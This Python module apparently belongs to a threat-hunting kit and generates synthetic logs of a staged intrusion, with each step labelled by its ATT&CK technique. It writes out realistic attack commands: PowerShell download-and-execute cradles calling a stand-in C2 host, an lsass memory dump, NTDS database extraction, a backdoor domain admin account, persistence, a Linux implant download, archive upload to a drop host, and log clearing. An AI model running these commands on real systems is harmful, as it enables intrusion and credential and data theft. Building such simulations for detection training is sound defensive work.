"""The attack, told step by step; every step names the technique that it stands for."""

import base64
from dataclasses import dataclass
from datetime import datetime, timedelta

from huntkit.sources.demo.cloud import CloudTrail
from huntkit.sources.demo.linux import LinuxHost
from huntkit.sources.demo.network import Sensor
from huntkit.sources.demo.windows import SYSTEM, Process, WindowsHost
from huntkit.sources.demo.world import (
    ANNA,
    BACKUP,
    C2_IP,
    C2_NAME,
    DROP_IP,
    DROP_NAME,
    HELPDESK2,
    KEY_THIEF_IP,
    NILS,
    PEOPLE,
    WS02,
    Chance,
    at,
)

_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_IMPLANT = "/tmp/.x"  # noqa: S108  a path in a log line
_SYSTEM32 = "C:\\Windows\\System32\\"
LAUNCHER = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_NAME}/launch.ps1')"
STAGE = (
    f"$u='https://{C2_NAME}/api/v2/check';while($true){{"
    "$t=(New-Object Net.WebClient).DownloadString($u);if($t){IEX $t};"
    "Start-Sleep -Seconds (55+(Get-Random -Maximum 10))}"
)
SERVICE_STAGE = f"IEX ((New-Object Net.WebClient).DownloadString('http://{C2_NAME}/svc.ps1'))"


def encoded(script: str) -> str:
    """A script as ``-EncodedCommand`` takes it: UTF-16 in base64.

    Examples:
        >>> encoded("dir")
        'ZABpAHIA'
    """
    return base64.b64encode(script.encode("utf-16-le")).decode()


@dataclass(slots=True)
class Intrusion:
    """All that the intruder does, on whose machines it leaves its traces."""

    first: WindowsHost
    second: WindowsHost
    controller: WindowsHost
    web: LinuxHost
    sensor: Sensor
    trail: CloudTrail
    chance: Chance

    def play(self) -> None:
        """The whole story, in order."""
        shell = self._phishing()
        self._beacon(self.first, shell, at("09:12:40"), every=60.0)
        self._discovery(shell)
        self._credentials(shell)
        self._spray()
        remote = self._service(self.second, at("09:52:07"), "WinSyncHelper")
        self._beacon(self.second, remote, at("09:52:20"), every=60.0)
        self._domain_controller()
        self._persistence(remote)
        self._linux()
        self._cloud()
        self._exfiltration(remote)
        self._cover_up(remote)

    def _phishing(self) -> Process:
        """T1566.001, T1204.002, T1059.001: a document, its macro, an encoded launcher."""
        when = at("09:12:04.310")
        desktop = self.first.desktop(when, ANNA)
        mail = self.first.start(
            when - timedelta(minutes=31),
            r"C:\Program Files\Office\OUTLOOK.EXE",
            r'"C:\Program Files\Office\OUTLOOK.EXE"',
            user=ANNA,
            parent=desktop,
        )
        document = rf"C:\Users\{ANNA.name}\Downloads\Invoice_0317.docm"
        self.first.create_file(when - timedelta(seconds=3), mail, document)
        word = self.first.start(
            when,
            r"C:\Program Files\Office\WINWORD.EXE",
            rf'"C:\Program Files\Office\WINWORD.EXE" /n "{document}" /o ""',
            user=ANNA,
            parent=mail,
        )
        launched = at("09:12:31.872")
        shell = self.first.start(
            launched,
            _POWERSHELL,
            f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded(LAUNCHER)}",
            user=ANNA,
            parent=word,
        )
        self.first.script_block(launched + timedelta(seconds=1.1), LAUNCHER)
        self.first.script_block(launched + timedelta(seconds=2.4), STAGE)
        self._fetch(self.first, shell, launched + timedelta(seconds=1.6), 80, received=48_220)
        return shell

    def _beacon(self, host: WindowsHost, shell: Process, begin: datetime, *, every: float) -> None:
        """T1071.001: small, regular calls home until the intruder leaves."""
        stream = self.chance.stream(f"beacon/{host.machine.short}")
        when = begin
        while when < at("11:04:00"):
            self._fetch(host, shell, when, 443, received=stream.randint(310, 420))
            when += timedelta(seconds=round(every + stream.uniform(-3, 3), 3))

    def _fetch(
        self, host: WindowsHost, shell: Process, when: datetime, port: int, *, received: int
    ) -> None:
        host.resolve(when, shell, C2_NAME, C2_IP)
        host.connect(when + timedelta(milliseconds=30), shell, C2_IP, port, name=C2_NAME)
        self.sensor.lookup(when, host.machine.ip, C2_NAME, C2_IP)
        self.sensor.connection(
            when + timedelta(milliseconds=30),
            host.machine.ip,
            C2_IP,
            port,
            seconds=0.41,
            sent=517,
            received=received,
            service="ssl" if port == 443 else "http",
        )

    def _discovery(self, shell: Process) -> None:
        """T1033, T1087.002, T1482, T1082, T1016: who and where am I?"""
        commands = (
            ("09:20:11", "whoami.exe", "whoami /all"),
            ("09:20:19", "systeminfo.exe", "systeminfo"),
            ("09:20:44", "ipconfig.exe", "ipconfig /all"),
            ("09:21:02", "net.exe", 'net group "Domain Admins" /domain'),
            ("09:21:20", "nltest.exe", "nltest /dclist:larkspur.example"),
            ("09:21:52", "net.exe", "net view /all"),
            ("09:22:30", "tasklist.exe", "tasklist /v"),
        )
        for clock, program, command in commands:
            self._tool(self.first, clock, program, command, shell)

    def _tool(
        self, host: WindowsHost, clock: str, program: str, command: str, parent: Process
    ) -> Process:
        elevated = parent.user is SYSTEM
        return host.start(
            at(clock),
            _SYSTEM32 + program,
            command,
            user=parent.user,
            parent=parent,
            integrity="System" if elevated else "Medium",
        )

    def _credentials(self, shell: Process) -> None:
        """T1003.001: the memory of lsass, written by a system library."""
        dump = self._tool(
            self.first,
            "09:31:40.120",
            "rundll32.exe",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 668 C:\ProgramData\m.dmp full",
            shell,
        )
        self.first.open_process(at("09:31:40.210"), dump, _SYSTEM32 + "lsass.exe", 668)
        self.first.create_file(at("09:31:40.655"), dump, r"C:\ProgramData\m.dmp")

    def _spray(self) -> None:
        """T1110.003: one password against many accounts, then the one that fits."""
        when = at("09:44:02")
        for turn in range(14):
            person = PEOPLE[turn % len(PEOPLE)]
            source = self.first.machine
            self.controller.fail_to_log_on(
                when + timedelta(seconds=3.1 * turn), person, source=source
            )
        self.controller.log_on(at("09:44:58.5"), NILS, kind=3, source=self.first.machine)

    def _service(self, host: WindowsHost, when: datetime, name: str) -> Process:
        """T1021.002, T1569.002: a service made from afar that starts the next shell."""
        host.log_on(when - timedelta(seconds=2), NILS, kind=3, source=self.first.machine)
        launcher = f"powershell.exe -nop -w hidden -enc {encoded(SERVICE_STAGE)}"
        command = f"%COMSPEC% /b /c start /b /min {launcher}"
        host.install_service(when, name, command, user=NILS)
        host.set_value(
            when,
            host.services,
            rf"HKLM\System\CurrentControlSet\Services\{name}\ImagePath",
            command,
        )
        prompt = host.start(
            when + timedelta(seconds=1),
            _SYSTEM32 + "cmd.exe",
            command.replace("%COMSPEC%", r"C:\Windows\system32\cmd.exe"),
            user=SYSTEM,
            parent=host.services,
            integrity="System",
        )
        shell = host.start(
            when + timedelta(seconds=1.4),
            _POWERSHELL,
            launcher,
            user=SYSTEM,
            parent=prompt,
            integrity="System",
        )
        host.script_block(when + timedelta(seconds=2), SERVICE_STAGE)
        return shell

    def _domain_controller(self) -> None:
        """T1003.003, T1136.002: the directory's database, and an account to come back with."""
        shell = self._service(self.controller, at("10:05:33"), "WinSyncHelper")
        tool = self._tool(
            self.controller,
            "10:11:02",
            "ntdsutil.exe",
            r'ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\ifm" q q',
            shell,
        )
        self.controller.create_file(at("10:11:31"), tool, r"C:\ProgramData\ifm\ntds.dit")
        self._tool(
            self.controller,
            "10:26:08",
            "net.exe",
            "net user helpdesk2 Winter-2026! /add /domain",
            shell,
        )
        self.controller.create_user(at("10:26:09"), HELPDESK2, by=NILS, group="Domain Admins")

    def _persistence(self, shell: Process) -> None:
        """T1053.005, T1547.001: a task at logon and a Run key."""
        task = r"\Microsoft\Windows\Sync\UpdateCheck"
        self._tool(
            self.second,
            "10:20:14",
            "schtasks.exe",
            f'schtasks /create /tn "{task}" /sc onlogon /ru SYSTEM /tr '
            f'"powershell.exe -w hidden -enc {encoded(LAUNCHER)}"',
            shell,
        )
        self.second.create_task(
            at("10:20:15"), task, f"-w hidden -enc {encoded(LAUNCHER)}", user=NILS
        )
        self.second.set_value(
            at("10:21:40"),
            shell,
            r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\SyncHelper",
            r"C:\ProgramData\Sync\helper.exe",
        )

    def _linux(self) -> None:
        """T1021.004, T1105, T1053.003: on to the web server, with the backup account."""
        for turn in range(9):
            when = at("10:33:10") + timedelta(seconds=4 * turn)
            self.web.log_in(when, "root", source=WS02.ip, success=False)
        self.web.log_in(at("10:35:02"), BACKUP.name, source=WS02.ip, success=True)
        shell = self.web.run(at("10:35:03"), "/usr/bin/bash", "-bash", user=BACKUP.name)
        steps = (
            ("10:35:20", "/usr/bin/id", ("id",)),
            ("10:35:41", "/usr/bin/cat", ("cat", "/etc/passwd")),
            ("10:36:15", "/usr/bin/curl", ("curl", "-fsSLo", _IMPLANT, f"http://{C2_NAME}/x86")),
            ("10:36:22", "/usr/bin/chmod", ("chmod", "+x", _IMPLANT)),
            ("10:36:25", _IMPLANT, (_IMPLANT, "-c", f"{C2_IP}:8443")),
            (
                "10:37:50",
                "/usr/bin/bash",
                ("bash", "-c", f'echo "*/10 * * * * {_IMPLANT}" | crontab -'),
            ),
        )
        for clock, exe, arguments in steps:
            self.web.run(at(clock), exe, *arguments, user=BACKUP.name, cwd="/tmp", ppid=shell)  # noqa: S108

    def _cloud(self) -> None:
        """T1078.004, T1530, T1562.008: the key found on the server, used from elsewhere."""
        calls: list[tuple[str, str, str, dict[str, str] | None, str]] = [
            ("10:44:02", "sts", "GetCallerIdentity", None, ""),
            ("10:44:31", "iam", "ListUsers", None, "AccessDenied"),
            ("10:44:59", "s3", "ListBuckets", None, ""),
            ("10:45:30", "cloudtrail", "StopLogging", {"name": "larkspur"}, "AccessDenied"),
            ("10:46:10", "iam", "CreateAccessKey", {"userName": BACKUP.name}, ""),
        ]
        for clock, service, action, parameters, error in calls:
            self._steal(at(clock), service, action, parameters, error)
        for turn in range(24):
            key = {"bucketName": "larkspur-backup", "key": f"customers/{turn:04}.csv.gz"}
            self._steal(at("10:47:00") + timedelta(seconds=7 * turn), "s3", "GetObject", key, "")

    def _steal(
        self,
        when: datetime,
        service: str,
        action: str,
        parameters: dict[str, str] | None,
        error: str,
    ) -> None:
        self.trail.call(
            when,
            service,
            action,
            user=BACKUP.name,
            source=KEY_THIEF_IP,
            agent="Boto3/1.34.0",
            parameters=parameters,
            error=error,
        )

    def _exfiltration(self, shell: Process) -> None:
        """T1560.001, T1048: pack it, send it."""
        archive = r"C:\ProgramData\Sync\q.7z"
        packer = self.second.start(
            at("10:50:21"),
            r"C:\ProgramData\Sync\7za.exe",
            rf"7za.exe a -mhe=on -pL4rk {archive} \\lark-dc01\finance$\2026",
            user=SYSTEM,
            parent=shell,
            integrity="System",
        )
        self.second.create_file(at("10:52:40"), packer, archive)
        curl = self._tool(
            self.second,
            "10:53:12",
            "curl.exe",
            f"curl.exe -s -T {archive} https://{DROP_NAME}/u/7f3a",
            shell,
        )
        when = at("10:53:12.400")
        self.second.resolve(when, curl, DROP_NAME, DROP_IP)
        self.second.connect(when + timedelta(milliseconds=30), curl, DROP_IP, 443, name=DROP_NAME)
        self.sensor.lookup(when, self.second.machine.ip, DROP_NAME, DROP_IP)
        self.sensor.connection(
            when + timedelta(milliseconds=30),
            self.second.machine.ip,
            DROP_IP,
            443,
            seconds=311.2,
            sent=431_802_114,
            received=9_120,
        )

    def _cover_up(self, shell: Process) -> None:
        """T1070.001: the Security log is emptied."""
        self._tool(self.second, "11:05:01", "wevtutil.exe", "wevtutil cl Security", shell)
        self.second.clear_log(at("11:05:01.640"), user=NILS)
